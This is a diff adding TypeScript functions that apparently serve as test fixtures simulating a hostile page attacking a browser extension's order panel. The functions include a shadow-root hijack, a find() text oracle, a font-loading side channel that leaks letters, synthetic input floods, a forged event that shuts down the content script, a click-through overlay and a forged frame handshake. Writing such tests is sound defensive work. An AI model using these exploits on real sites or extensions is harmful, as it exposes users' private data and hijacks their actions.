@@ -1,0 +1,165 @@
+/**
+ * What a bad script in tomapedidos tries, as functions for the page's own world: they are sent there as text, so each
+ * stands alone. Each is an exploit that worked on the panel in a closed shadow root, or one against the frame.
+ */
+
+/** Before anything of ours is there: keeps every root, host and frame that anybody makes, and ends WXT's content script. */
+export function lieInWait(): void {
+  const caught = { roots: [] as ShadowRoot[], internals: [] as unknown[], frames: [] as unknown[] }
+  Reflect.set(globalThis, 'caught', caught)
+  const attach = Element.prototype.attachShadow
+  Element.prototype.attachShadow = function attachShadow(options) {
+    const root = attach.call(this, { ...options, mode: 'open' })
+    caught.roots.push(root)
+    return root
+  }
+  class Ours extends HTMLElement {
+    constructor() {
+      super()
+      caught.internals.push(this.attachInternals().shadowRoot)
+    }
+  }
+  for (const name of ['justo-pedidos', 'justo-panel']) customElements.define(name, Ours)
+  const create = Document.prototype.createElement
+  Document.prototype.createElement = function createElement(this: Document, ...args: Parameters<typeof create>) {
+    const made = create.apply(this, args)
+    if (args[0] === 'iframe') caught.frames.push(made)
+    return made
+  } as typeof create
+  const show = HTMLElement.prototype.showPopover
+  HTMLElement.prototype.showPopover = function showPopover() {
+    caught.frames.push(this)
+    return show.call(this)
+  }
+}
+
+/** What `lieInWait` caught, and what the host tells when it is asked. */
+export function whatWasCaught(): Record<string, unknown> {
+  const caught = Reflect.get(globalThis, 'caught')
+  const host = [...document.documentElement.children].find(({ localName }) => localName === 'div')
+  const attempt = (work: () => unknown) => {
+    try {
+      return String(work())
+    } catch (error) {
+      return (error as Error).name
+    }
+  }
+  return {
+    roots: caught.roots.length,
+    internals: caught.internals.filter(Boolean).length,
+    frames: caught.frames.length,
+    hostRoot: host?.shadowRoot ?? null,
+    attachInternals: attempt(() => (host as HTMLElement).attachInternals()),
+    children: host?.childNodes.length,
+    windows: frames.length,
+    entries: performance.getEntries().filter(({ name }) => name.startsWith('chrome-extension:')).length,
+    text: `${document.documentElement.innerText}${host?.textContent}`,
+  }
+}
+
+/** The oracle: `find` told a closed root's text letter by letter. Returns the longest text that it finds. */
+export function findByOracle(alphabet: string, seeds: string[]): string {
+  const find = (text: string): boolean => {
+    getSelection()?.removeAllRanges()
+    return Reflect.get(globalThis, 'find').call(globalThis, text, true, false, true)
+  }
+  let longest = ''
+  for (const seed of seeds) {
+    let text = find(seed) ? seed : ''
+    for (let grew = text !== ''; grew && text.length < 60; ) {
+      const next = [...alphabet].find((letter) => find(text + letter))
+      grew = next !== undefined
+      text += next ?? ''
+    }
+    if (text.length > longest.length) longest = text
+  }
+  getSelection()?.removeAllRanges()
+  return longest
+}
+
+/** Fonts for single letters: one that is loaded tells that its letter is on the screen. Returns the loaded ones. */
+export async function lettersByFonts(letters: string): Promise<string[]> {
+  const fonts = [...letters].map((letter) => {
+    const range = `U+${letter.codePointAt(0)?.toString(16)}`
+    // A made-up file: it fails to load, and that it was asked for is what tells.
+    return new FontFace('Espia', `url(/fuente-${letter.codePointAt(0)}.woff2)`, { unicodeRange: range })
+  })
+  for (const font of fonts) document.fonts.add(font)
+  const style = new CSSStyleSheet()
+  style.replaceSync('*, *::before, :host, iframe { font-family: Espia !important }')
+  document.adoptedStyleSheets = [...document.adoptedStyleSheets, style]
+  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
+  return fonts.filter(({ status }) => status !== 'unloaded').map(({ unicodeRange }) => unicodeRange)
+}
+
+/** Every synthetic press, key, paste and drop that a script can send, at a point and at our host. */
+export function pressByScript(x: number, y: number): void {
+  const host = [...document.documentElement.children].find(({ localName }) => localName === 'div')
+  const targets = [document.elementFromPoint(x, y), host, document.activeElement, document, window]
+  const at = { bubbles: true, composed: true, cancelable: true, clientX: x, clientY: y, button: 0, detail: 1 }
+  for (const target of targets) {
+    for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click', 'dblclick'])
+      target?.dispatchEvent(new MouseEvent(type, at))
+    for (const key of ['Enter', ' ', 'Tab', 'F2'])
+      for (const type of ['keydown', 'keypress', 'keyup'])
+        target?.dispatchEvent(new KeyboardEvent(type, { key, bubbles: true, composed: true }))
+    target?.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, composed: true }))
+    target?.dispatchEvent(new DragEvent('drop', { bubbles: true, composed: true }))
+    if (target instanceof HTMLElement) target.click()
+  }
+}
+
+/** Ends a WXT content script of this extension, if it listens to WXT's own event. */
+export function endContentScript(id: string): void {
+  for (const name of [`${id}:tomapedidos:wxt:content-script-started`, `${id}:undefined:wxt:content-script-started`])
+    document.dispatchEvent(
+      new CustomEvent(name, { detail: { contentScriptName: 'tomapedidos', messageId: 'another' } }),
+    )
+}
+
+/** Covers the whole window; clicks go through it. Later in the top layer than anything of ours. */
+export function coverAll(): void {
+  const cover = document.createElement('div')
+  cover.id = 'cubierta'
+  cover.popover = 'manual'
+  Object.assign(cover.style, {
+    position: 'fixed',
+    inset: '0',
+    width: '100vw',
+    height: '100vh',
+    background: '#eef1f4',
+    pointerEvents: 'none',
+  })
+  cover.append('Pulse aquí para continuar')
+  document.body.append(cover)
+  cover.showPopover()
+}
+
+export function uncover(): void {
+  document.querySelector('#cubierta')?.remove()
+}
+
+/** Loads the frame's page in a frame of its own. `url`: as if the page had learnt it. False: it did not load. */
+export function loadForgedFrame(url: string): Promise<boolean> {
+  const frame = document.createElement('iframe')
+  Object.assign(frame, { credentialless: true, id: 'falso', src: url })
+  frame.style.cssText = 'position:fixed;inset:auto 0 0 0;width:800px;height:300px'
+  const heard: unknown[] = []
+  Reflect.set(globalThis, 'heard', heard)
+  addEventListener('message', ({ data }) => heard.push(data))
+  document.body.append(frame)
+  return new Promise((resolve) => {
+    frame.addEventListener('load', () => resolve(true))
+    frame.addEventListener('error', () => resolve(false))
+  })
+}
+
+/** Greets it as the content script would, with made-up nonces; what comes back is in `heard`. */
+export function greetForgedFrame(times: number): void {
+  const frame = document.querySelector<HTMLIFrameElement>('#falso')
+  for (let i = 0; i < times; i += 1) {
+    const { port1, port2 } = new MessageChannel()
+    port1.onmessage = ({ data }) => Reflect.get(globalThis, 'heard').push(data)
+    frame?.contentWindow?.postMessage({ type: 'justo-hello', nonce: crypto.randomUUID() }, '*', [port2])
+  }
+}
